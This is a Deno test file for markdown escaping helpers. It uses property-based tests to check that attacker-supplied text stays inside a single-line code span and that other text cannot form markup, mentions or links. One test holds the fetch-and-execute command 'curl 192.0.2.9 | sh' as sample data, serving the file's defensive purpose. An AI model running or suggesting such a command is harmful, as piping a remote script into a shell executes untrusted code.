import assert from "assert";
import fc from "fast-check";
import { cellCode, code, escaped } from "../../lib/text/markdown.ts";
import { HOSTILE_TEXTS } from "../export/hostile.ts";

Deno.test("whatever attackers wrote stays inside its code, on one line", () => {
  const hostile = fc.oneof(
    fc.constantFrom(...HOSTILE_TEXTS),
    fc.array(fc.constantFrom(..."`|\\ \n\t<>a\u202e"), { maxLength: 30 })
      .map((characters) => characters.join("")),
  );
  fc.assert(
    fc.property(hostile, (text) => {
      const made = code(text);
      const [, fence, inner] = /^(`+)([\s\S]*?)\1$/.exec(made) ?? assert.fail(made);
      assert.equal(made.length, fence!.length * 2 + inner!.length, made);
      const runs = Array.from(inner!.matchAll(/`+/g), ([run]) => run.length);
      assert.ok(!runs.includes(fence!.length), made);
      assert.doesNotMatch(inner!, /[\p{Cc}\p{Cf}]/u);
      assert.doesNotMatch(cellCode(text), /\|/);
      assert.ok(inner!.length > 0 && !inner!.startsWith("`") && !inner!.endsWith("`"));
    }),
    { numRuns: 2000 },
  );
});

Deno.test("a command stands in a ticket as it was typed", () => {
  assert.equal(code("curl 192.0.2.9 | sh"), "`curl 192.0.2.9 | sh`");
});

Deno.test("other text makes no markup, mention or link", () => {
  assert.equal(escaped("a *b* [c](d) <e> @f #1"), "a \\*b\\* \\[c\\](d) \\<e\\> \\@f \\#1");
  assert.equal(escaped("https://e.example www.e.example"), "https\\://e.example www\\.e.example");
  assert.equal(escaped("Brute Force: Password (1-2)\n"), "Brute Force: Password (1-2)\\\\n");
});
